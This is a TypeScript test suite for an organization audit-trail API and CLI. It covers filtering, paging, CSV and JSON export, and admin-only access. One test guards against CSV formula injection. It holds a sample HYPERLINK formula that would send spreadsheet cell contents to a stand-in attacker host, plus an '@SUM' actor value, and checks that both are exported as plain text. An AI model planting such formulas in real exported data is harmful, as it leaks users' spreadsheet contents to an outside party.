import { readFileSync } from 'node:fs';
import path from 'node:path';
import { recordAudit } from 'setpoint/service/audit/audit-repository';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import {
  cliEnvOf,
  createHarness,
  type Harness,
  signedInHeaders,
} from '../service/support/service-harness.js';
import { parseCsv } from '../support/csv-parse.js';
import { createTestPostgresDatabase, type TestPostgresDatabase } from '../support/postgres.js';
import { runCli } from '../support/run-cli.js';
import { fullSuiteEnabled } from '../support/tiers.js';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const dialects = [
  { name: 'SQLite', postgres: false },
  ...(fullSuiteEnabled ? [{ name: 'PostgreSQL', postgres: true }] : []),
];

describe.each(dialects)('the organization audit trail on $name', ({ postgres }) => {
  let h: Harness;
  let pg: TestPostgresDatabase | undefined;
  let orders: string;
  let billing: string;
  const t0 = Date.UTC(2026, 9, 1);

  beforeAll(async () => {
    pg = postgres ? await createTestPostgresDatabase() : undefined;
    h = await createHarness(pg ? { databaseUrl: pg.url } : {});
    orders = (await h.request('POST', '/api/v1/projects', { name: 'orders' })).json().id;
    billing = (await h.request('POST', '/api/v1/projects', { name: 'billing, "nightly"' })).json().id;
    await h.request('PATCH', `/api/v1/projects/${orders}`, { settings: { slaMinutes: 30 } });
    await h.request('POST', `/api/v1/projects/${billing}/reset`);
    // Entries at known times, from people and from Setpoint itself.
    const db = h.services.store.db;
    await recordAudit(
      db,
      {
        entity: 'project',
        entityId: orders,
        action: 'update_settings',
        actor: 'user:ana',
        detail: { fields: ['slaMinutes'] },
      },
      t0,
    );
    await recordAudit(
      db,
      {
        entity: 'recommendation',
        entityId: 'rec_1',
        action: 'apply_requested',
        actor: 'user:ana',
        detail: { projectId: orders },
      },
      t0 + 60_000,
    );
    await recordAudit(
      db,
      {
        entity: 'recommendation',
        entityId: 'rec_2',
        action: 'apply_requested',
        actor: 'user:bo',
        detail: { projectId: billing },
      },
      t0 + 120_000,
    );
    await recordAudit(
      db,
      { entity: 'api_key', entityId: 'key_1', action: 'revoke', actor: 'user:bo', detail: { name: 'ci' } },
      t0 + 180_000,
    );
  });

  afterAll(async () => {
    await h?.close();
    await pg?.drop();
  });

  it('lists who changed what and when, newest first, with the project each change concerns', async () => {
    const page = (await h.request('GET', '/api/v1/audit?limit=500')).json();
    const created = page.items.filter(
      (item: { action: string; entity: string }) => item.action === 'create' && item.entity === 'project',
    );
    expect(created.map((item: { project_name: string }) => item.project_name).sort()).toEqual([
      'billing, "nightly"',
      'orders',
    ]);
    const times = page.items.map((item: { created_at: number }) => item.created_at);
    expect(times).toEqual([...times].sort((a, b) => b - a));
    expect(page.total).toBe(page.items.length);
    const applied = page.items.find((item: { entity_id: string }) => item.entity_id === 'rec_1');
    expect(applied).toMatchObject({
      actor: 'user:ana',
      action: 'apply_requested',
      entity: 'recommendation',
      project_id: orders,
      project_name: 'orders',
      created_at: t0 + 60_000,
    });
    const reset = page.items.find((item: { action: string }) => item.action === 'reset');
    expect(reset).toMatchObject({
      entity: 'project',
      entity_id: billing,
      project_id: billing,
      actor: `api-key:${h.key.id}`,
    });
  });

  it('filters by actor (with or without its prefix), action, target kind, project and time range', async () => {
    const ids = async (query: string) =>
      (await h.request('GET', `/api/v1/audit?${query}`))
        .json()
        .items.map((item: { entity_id: string }) => item.entity_id);
    expect(await ids('actor=ana')).toEqual(['rec_1', orders]);
    expect(await ids('actor=user%3Abo')).toEqual(['key_1', 'rec_2']);
    expect(await ids('action=apply_requested')).toEqual(['rec_2', 'rec_1']);
    expect(await ids('entity=api_key&actor=bo')).toEqual(['key_1']);
    const forOrders = await ids(`project_id=${orders}&until=${t0 + 3_600_000}`);
    expect(forOrders).toEqual(['rec_1', orders]);
    expect(await ids(`since=${t0 + 60_000}&until=${t0 + 180_000}`)).toEqual(['rec_2', 'rec_1']);
    expect(await ids('actor=nobody')).toEqual([]);
  });

  it('pages with a bounded limit and refuses a reversed time range', async () => {
    const first = (await h.request('GET', '/api/v1/audit?limit=2')).json();
    const second = (await h.request('GET', '/api/v1/audit?limit=2&offset=2')).json();
    expect(first.items).toHaveLength(2);
    expect(second.offset).toBe(2);
    expect(second.items[0].id).not.toBe(first.items[1].id);
    expect(first.total).toBeGreaterThanOrEqual(8);
    const tooMany = await h.request('GET', '/api/v1/audit?limit=501');
    expect(tooMany.status).toBe(400);
    const reversed = await h.request('GET', `/api/v1/audit?since=${t0 + 10}&until=${t0}`);
    expect(reversed.status).toBe(400);
    expect(reversed.json().error.message).toMatch(/since.*before.*until/);
  });

  it('exports the matching entries as CSV with raw values and as JSON, as a download', async () => {
    const csv = await h.app.inject({
      method: 'GET',
      url: `/api/v1/audit/export?format=csv&since=${t0}&until=${t0 + 3_600_000}`,
      headers: { authorization: `Bearer ${h.token}` },
    });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="setpoint-audit-.*\.csv"$/);
    const rows = parseCsv(csv.body);
    expect(rows[0]).toEqual([
      'time_utc',
      'time_ms',
      'actor',
      'action',
      'entity',
      'entity_id',
      'project_id',
      'project_name',
      'detail_json',
    ]);
    expect(rows).toHaveLength(5);
    expect(rows[1]).toEqual([
      new Date(t0 + 180_000).toISOString(),
      String(t0 + 180_000),
      'user:bo',
      'revoke',
      'api_key',
      'key_1',
      '',
      '',
      '{"name":"ci"}',
    ]);
    expect(rows[2]?.[7]).toBe('billing, "nightly"');
    expect(rows[3]?.[7]).toBe('orders');
    expect(JSON.parse(rows[4]?.[8] ?? '')).toEqual({ fields: ['slaMinutes'] });

    const json = await h.app.inject({
      method: 'GET',
      url: `/api/v1/audit/export?format=json&actor=ana`,
      headers: { authorization: `Bearer ${h.token}` },
    });
    expect(json.headers['content-disposition']).toMatch(/\.json"$/);
    const listed = (await h.request('GET', '/api/v1/audit?actor=ana')).json();
    expect(json.json()).toEqual({ items: listed.items, total: 2 });
  });

  it('writes a formula-like actor, name or detail as text in the CSV (no spreadsheet formula)', async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"open")';
    const created = await h.request('POST', '/api/v1/projects', { name: formula });
    expect(created.status).toBe(201);
    await recordAudit(
      h.services.store.db,
      { entity: 'run', entityId: 'run_formula', action: 'reprocess', actor: '@SUM(1+1)', detail: {} },
      t0 - 10,
    );
    const csv = await h.app.inject({
      method: 'GET',
      url: '/api/v1/audit/export?format=csv',
      headers: { authorization: `Bearer ${h.token}` },
    });
    const rows = parseCsv(csv.body);
    const projectRow = rows.find((row) => row[4] === 'project' && row[5] === created.json().id);
    expect(projectRow?.[7]).toBe(`'${formula}`);
    expect(rows.find((row) => row[5] === 'run_formula')?.[2]).toBe("'@SUM(1+1)");
    // no cell a spreadsheet would evaluate: each formula-like one starts with the quote
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-\D/);
  });

  it('refuses an export wider than its bound with the count, and reads across batches in order', async () => {
    const db = h.services.store.db;
    for (let i = 0; i < 1005; i += 1)
      await recordAudit(
        db,
        { entity: 'run', entityId: `run_${i}`, action: 'reprocess', actor: 'pipeline', detail: {} },
        t0 - 1_000_000 + i,
      );
    const all = await h.services.audit.exportRows({ actor: 'pipeline', action: 'reprocess' });
    expect(all).toHaveLength(1005);
    expect(all[0]?.entityId).toBe('run_1004');
    expect(all.at(-1)?.entityId).toBe('run_0');
    expect(new Set(all.map((row) => row.id)).size).toBe(1005);
    await expect(h.services.audit.exportRows({ actor: 'pipeline' }, 1000)).rejects.toThrow(
      /matches 1005 audit entries; an export holds at most 1000/,
    );
  });

  it('is for admins only: editors and viewers get 403', async () => {
    await h.services.users.create('eda', 'editor password 1', 'editor');
    await h.services.users.create('vic', 'viewer password 1', 'viewer');
    for (const [username, password] of [
      ['eda', 'editor password 1'],
      ['vic', 'viewer password 1'],
    ] as const) {
      const headers = await signedInHeaders(h, username, password);
      for (const url of ['/api/v1/audit', '/api/v1/audit/export', '/api/v1/audit/facets']) {
        const denied = await h.app.inject({ method: 'GET', url, headers });
        expect(denied.statusCode, `${username} ${url}`).toBe(403);
        expect(denied.json().error.message).toBe("only admins may read the organization's audit trail");
      }
    }
  });

  it('offers the actors, actions and kinds of target it holds as filter choices', async () => {
    const facets = (await h.request('GET', '/api/v1/audit/facets')).json();
    expect(facets.actors).toEqual(expect.arrayContaining(['user:ana', 'user:bo', 'pipeline']));
    expect(facets.actions).toEqual(expect.arrayContaining(['apply_requested', 'reset', 'revoke']));
    expect(facets.entities).toEqual(expect.arrayContaining(['project', 'recommendation', 'api_key']));
    expect(facets.actions).toEqual([...facets.actions].sort());
  });

  it.runIf(!postgres)('lists and exports from the CLI', async () => {
    const env = await cliEnvOf(h);
    const listed = await runCli(
      ['audit', 'list', '--actor', 'ana', '--since', '2026-10-01', '--until', '2026-10-02'],
      {
        env,
      },
    );
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toMatch(/user:ana\s+apply_requested\s+recommendation rec_1 \(orders\)/);
    expect(listed.stdout).toMatch(/entries 1–2 of 2\n$/);

    const paged = await runCli(['audit', 'list', '--limit', '1', '--json'], { env });
    expect(JSON.parse(paged.stdout)).toMatchObject({ limit: 1, offset: 0 });
    expect((await runCli(['audit', 'list', '--limit', '1'], { env })).stdout).toMatch(
      /\(next: --offset 1\)\n$/,
    );

    const file = path.join(env.SETPOINT_HOME, 'audit.csv');
    const exported = await runCli(['audit', 'export', '--action', 'apply_requested', '--output', file], {
      env,
    });
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stderr).toBe(`wrote 2 audit entries to ${file}\n`);
    const rows = parseCsv(readFileSync(file, 'utf8'));
    expect(rows.slice(1).map((row) => row[5])).toEqual(['rec_2', 'rec_1']);

    const json = await runCli(['audit', 'export', '--format', 'json', '--actor', 'bo'], { env });
    expect(JSON.parse(json.stdout).total).toBe(2);

    const badTime = await runCli(['audit', 'list', '--since', 'yesterday'], { env });
    expect(badTime.code).toBe(2);
    expect(badTime.stderr).toMatch(/--since <time>.*ISO 8601 date or date-time, or a span before now/);
  });
});
